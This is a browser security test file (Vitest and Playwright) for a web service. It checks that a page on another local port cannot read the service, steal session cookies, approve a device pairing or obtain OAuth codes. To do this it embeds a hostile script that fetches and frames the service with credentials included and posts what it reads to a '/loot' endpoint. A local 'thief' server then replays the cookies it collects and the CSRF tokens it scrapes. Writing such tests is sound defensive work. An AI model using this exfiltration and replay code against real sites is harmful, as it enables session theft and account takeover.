import { once } from "node:events";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, onTestFinished, test } from "vitest";
import { startTestService, type TestService } from "../../../src/testing.ts";
import { call, post } from "../../service/http-calls.ts";
import { registerClient } from "../../service/oauth/oauth-client.ts";
import { launchChromium, openWindow, signIn } from "./chromium.ts";

/** A program that serves pages on another port of this machine, and a browser in which the owner is signed in. */

let browser: Browser;
let service: TestService;
let page: Page;
let thief: Server;
/** Everything the hostile pages were asked, with the cookies that came along. */
let asked: { url: string; host: string; cookie: string; referer: string; body: string }[];

beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser?.close());
beforeEach(async () => {
  service = await startTestService();
  asked = [];
  thief = createServer(async (request, answer) => {
    const { cookie = "", host = "", referer = "" } = request.headers;
    asked.push({ url: request.url ?? "", host, cookie, referer, body: await readText(request) });
    answer.setHeader("content-type", "text/html");
    answer.setHeader("set-cookie", ["svc_session=tossed; Path=/", "svc_oauth_session=tossed; Path=/"]);
    answer.end(`<title>Hostile</title>${ATTACKS.replaceAll("SERVICE", service.url)}`);
  });
  thief.listen(0, "::");
  await once(thief, "listening");
  page = await openWindow(browser, { colorScheme: "light", width: 1280 });
});
afterEach(async () => {
  await page.context().close();
  thief.closeAllConnections();
  thief.close();
  await service.close();
});

/** Frames, fetches and opens pages of the service, and sends home whatever it can read. */
const ATTACKS = `<iframe src="SERVICE/devices"></iframe><script>
const home = (what, text) => fetch("/loot?" + what, { method: "POST", body: String(text) });
const paths = ["/", "/devices", "/log", "/sign-in?token=x"];
const reads = paths.flatMap((path) => ["cors", "no-cors"].map((mode) =>
  fetch("SERVICE" + path, { mode, credentials: "include" })
    .then(async (reply) => home(path + " " + mode, reply.url + (await reply.text())), (error) => home(path, error))));
const opened = window.open("SERVICE/devices");
setTimeout(() => {
  const peek = (what, read) => { try { home(what, read()); } catch (error) { home(what, error.name); } };
  peek("opened", () => opened.location.href);
  peek("framed", () => frames[0].location.href + frames[0].document.body.innerHTML);
  peek("own", () => document.cookie + document.referrer + JSON.stringify(localStorage));
  peek("entries", () => JSON.stringify(performance.getEntries().map(({ name }) => name)));
  Promise.allSettled(reads).then(() => { document.title = "Done"; });
}, 500);
</script>`;

const portOf = (server: Server) => (server.address() as AddressInfo).port;
const thiefPort = () => portOf(thief);
const HOSTS = ["127.0.0.1", "localhost", "[::1]", "svc.localhost"];

async function readText(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString("utf8");
}

/** Signs in, and returns the address of the home page. */
async function signInHere(): Promise<string> {
  await signIn(page, await service.service.signInUrl());
  expect(await page.locator("h1").textContent()).toBe("Home");
  return page.url();
}

/** Every cookie that reached the hostile pages, as one header a thief can send. */
const loot = () => [...new Set(asked.flatMap(({ cookie }) => cookie.split("; ")))].join("; ");

test.each(HOSTS)("a page on another port of %s gets no session, and cannot approve its own device", async (host) => {
  const home = await signInHere();
  const pairing = (await post(`${service.url}/api/plugin/pair/start`, { deviceLabel: "Hostile" })).json;
  const session = `${thiefPort()}`;
  await page.goto(`http://${host}:${session}/`);
  await page.waitForFunction("document.title === 'Done'");
  // Where the owner's own pages are, for the case that the paths of the service alone are not enough.
  for (const path of ["/devices", `/pair/${pairing.sessionToken}`, "/s/", "/sign-in"]) {
    await page.goto(`http://${host}:${session}${path}`);
  }
  const approval = `${service.url}/pair/${pairing.sessionToken}`;
  const stolen = await call(approval, { headers: { accept: "text/html", cookie: loot() } });
  const csrf = /name="csrf" value="([^"]+)"/.exec(stolen.text)?.[1] ?? "";
  const headers = { cookie: loot(), "content-type": "application/x-www-form-urlencoded" };
  await call(approval, { method: "POST", headers, body: `csrf=${csrf}&decision=approve` });
  const status = (await call(`${service.url}/api/plugin/pair/sessions/${pairing.sessionToken}`)).json.status;
  expect([status, stolen.status]).toEqual(["awaiting_approval", 401]);
  expect(asked.map(({ cookie }) => cookie).join()).not.toMatch(/svc_session=(?!tossed)/);
  const [, secretPath = "none"] = /(\/s\/[\w-]{43})\//.exec(home) ?? [];
  expect(JSON.stringify(asked)).not.toContain(secretPath);
  expect(asked.filter(({ body }) => /csrf|Sign out|Devices<\/h1>/.test(body))).toEqual([]);
  await page.goto(home);
  expect(await page.locator("h1").textContent()).toBe("Home");
});

test("a page that leads the browser to the service reads nothing of it, and the owner stays signed in", async () => {
  await signInHere();
  await page.goto(`http://127.0.0.1:${thiefPort()}/`);
  await page.waitForFunction("document.title === 'Done'");
  const [, opened] = page.context().pages();
  await opened?.waitForURL(/\/s\/[\w-]{43}\/devices$/);
  expect(await opened?.locator("h1").textContent()).toBe("Devices and keys");
  const reads = new Map(asked.filter(({ url }) => url.startsWith("/loot")).map(({ url, body }) => [url, body]));
  expect(reads.get("/loot?framed")).toBe("SecurityError");
  expect([...reads.values()].join()).not.toMatch(/\/s\/[\w-]{20}/);
});

test("the cookies of an app's request give no code to whoever gets them", async () => {
  await signInHere();
  const app = await startApp();
  const client = await registerClient(service.url, { redirect_uris: [`http://127.0.0.1:${portOf(app)}/callback`] });
  const started = await client.start();
  await page.goto(started.url);
  await page.getByRole("heading", { name: "Give Test app access?" }).waitFor();
  const { pathname } = new URL(page.url().replace(/\/s\/[\w-]{43}/, ""));
  await page.getByRole("button", { name: "Approve" }).click();
  await page.waitForURL(/\/callback\?/);
  expect(new URL(page.url()).searchParams.has("code")).toBe(true);
  for (const path of ["/", pathname, "/oauth/authorize"]) await page.goto(`http://127.0.0.1:${thiefPort()}${path}`);
  for (const extra of ["", "&prompt=none"]) {
    const again = await client.start();
    const reply = await call(`${again.url}${extra}`, { headers: { cookie: loot() } });
    expect(String(reply.headers.location)).not.toMatch(/[?&]code=/);
  }
});

/** The app that asks for access, until the test ends. */
async function startApp(): Promise<Server> {
  const app = createServer((_request, answer) => answer.end("Thank you."));
  onTestFinished(() => {
    app.closeAllConnections();
    app.close();
  });
  app.listen(0, "127.0.0.1");
  await once(app, "listening");
  return app;
}
